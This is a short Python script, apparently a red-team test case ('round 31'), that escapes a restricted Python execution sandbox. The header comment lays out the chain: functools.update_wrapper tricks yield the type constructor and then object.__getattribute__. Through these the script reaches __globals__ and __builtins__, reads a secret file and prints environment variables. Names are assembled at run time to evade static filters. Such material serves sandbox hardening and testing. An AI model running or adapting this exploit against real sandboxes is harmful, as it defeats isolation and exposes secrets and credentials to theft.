# family: red team, round 31 (update_wrapper copying a class's __dict__)
# Chain: update_wrapper(holder, collections.Counter, ()) -> holder.copy(int) is <class 'type'> (see rt_001).
# type() builds a class with a run-time-named "__dict__" property returning a dict the tool holds; then
# update_wrapper(k, object, ()) does k.__dict__.update(object.__dict__), handing the tool object.__getattribute__
# under a key it indexes at run time. That reads __globals__ -> __builtins__ -> open -> the secret file, os.environ.
import collections
import functools


def holder():
    return None


functools.update_wrapper(holder, collections.Counter, ())
meta = holder.copy(int)

u = "_"
box = {}


def dunder(word):
    return u + u + word + u + u


def give_box(self):
    return box


Sink = meta("Sink", (), {dunder("dict"): property(give_box)})
functools.update_wrapper(Sink(), object, ())
read = box[dunder("getattribute")]

scope = read(holder, dunder("globals"))
print("function globals keys:", sorted(scope)[:8])
b = scope[dunder("builtins")]
table = b if isinstance(b, dict) else read(b, dunder("dict"))
opener = table["op" + "en"]
with opener("/tmp/r31/work/secret.txt") as fh:
    print("secret:", fh.read().strip())
osmod = table[dunder("import")]("o" + "s")
print("module:", osmod)
print("environ PATH:", osmod.environ.get("PATH"))
